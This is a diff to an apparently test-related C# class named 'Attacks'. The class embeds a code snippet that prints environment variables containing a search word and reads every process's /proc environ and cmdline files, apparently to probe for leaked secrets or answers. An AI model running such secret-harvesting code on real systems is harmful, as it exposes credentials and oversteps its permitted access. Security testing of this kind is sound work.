@@ -39,14 +39,13 @@ internal static class Attacks
             catch (Exception) { }
         }
 
+        Search("ROOT");
         foreach (System.Collections.DictionaryEntry variable in Environment.GetEnvironmentVariables())
         {
             if ($"{variable.Value}".Contains(Words)) { Console.WriteLine($"{variable.Key}={variable.Value}"); }
         }
 
         foreach (var process in Directory.EnumerateDirectories("/proc")) { Tell(process + "/environ"); Tell(process + "/cmdline"); }
-        Search("ROOT");
-        Console.WriteLine("searched");
         """;
 
     /// <summary>Answers by the names of their exercises.</summary>
